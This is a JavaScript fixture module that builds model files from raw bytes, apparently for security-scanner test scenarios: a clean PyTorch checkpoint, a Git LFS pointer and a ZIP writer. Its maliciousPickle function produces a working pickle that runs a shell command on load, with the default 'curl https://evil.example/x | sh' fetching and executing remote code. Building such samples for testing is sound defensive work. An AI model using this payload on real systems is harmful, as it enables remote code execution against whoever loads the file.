/** Model files for the scenarios, made of bytes: no Python, nothing to download. */
import { createHash } from "node:crypto";
import { crc32 } from "node:zlib";

const text = (value) => Buffer.concat([Buffer.from("X"), uint32(Buffer.byteLength(value)), Buffer.from(value)]);
const global = (module, name) => Buffer.from(`c${module}\n${name}\n`);
const op = (...bytes) => Buffer.from(bytes);

const PROTO_2 = op(0x80, 2);
const [MARK, TUPLE, REDUCE, STOP, EMPTY_TUPLE, BINPERSID, FALSE, SETITEMS] = [..."(tR.)Q\x89u"].map((char) =>
  Buffer.from(char, "latin1"),
);
const TUPLE_2 = op(0x86);
const TUPLE_1 = op(0x85);
const small = (number) => op(0x4b, number);

/** Runs a command while it is loaded. */
export function maliciousPickle(command = "curl https://evil.example/x | sh") {
  return Buffer.concat([PROTO_2, global("posix", "system"), text(command), TUPLE_1, REDUCE, STOP]);
}

/** What `torch.save` writes for a state dict with one 2 by 2 tensor. */
export function cleanCheckpoint() {
  const orderedDict = Buffer.concat([global("collections", "OrderedDict"), EMPTY_TUPLE, REDUCE]);
  const storage = [
    MARK,
    text("storage"),
    global("torch", "FloatStorage"),
    text("0"),
    text("cpu"),
    small(4),
    TUPLE,
    BINPERSID,
  ];
  const shape = [small(0), small(2), small(2), TUPLE_2, small(2), small(1), TUPLE_2, FALSE];
  const tensor = [global("torch._utils", "_rebuild_tensor_v2"), MARK, ...storage, ...shape, orderedDict, TUPLE, REDUCE];
  const pickle = Buffer.concat([PROTO_2, orderedDict, MARK, text("weight"), ...tensor, SETITEMS, STOP]);
  return storedZip({
    "archive/data.pkl": pickle,
    "archive/byteorder": Buffer.from("little"),
    "archive/data/0": Buffer.from(new Float32Array([1, 2, 3, 4]).buffer),
    "archive/version": Buffer.from("3\n"),
  });
}

/** A Git LFS pointer to content that nobody has. */
export function lfsPointer(content = "a model that is kept elsewhere") {
  const oid = createHash("sha256").update(content).digest("hex");
  return `version https://git-lfs.github.com/spec/v1\noid sha256:${oid}\nsize ${content.length}\n`;
}

export function storedZip(members) {
  const locals = [];
  const entries = [];
  let offset = 0;
  for (const [name, data] of Object.entries(members)) {
    const fields = Buffer.concat([
      uint16(0),
      uint16(0),
      uint32(0x00210000),
      uint32(crc32(data)),
      uint32(data.length),
      uint32(data.length),
    ]);
    const lengths = Buffer.concat([uint16(name.length), uint16(0)]);
    const local = Buffer.concat([Buffer.from("PK\x03\x04"), uint16(20), fields, lengths, Buffer.from(name), data]);
    const attributes = Buffer.concat([uint16(0), uint16(0), uint16(0), uint32(0), uint32(offset)]);
    entries.push(
      Buffer.concat([
        Buffer.from("PK\x01\x02"),
        uint16(20),
        uint16(20),
        fields,
        lengths,
        attributes,
        Buffer.from(name),
      ]),
    );
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(entries);
  const count = uint16(entries.length);
  const end = [
    Buffer.from("PK\x05\x06"),
    uint16(0),
    uint16(0),
    count,
    count,
    uint32(directory.length),
    uint32(offset),
    uint16(0),
  ];
  return Buffer.concat([...locals, directory, ...end]);
}

function uint16(value) {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
}
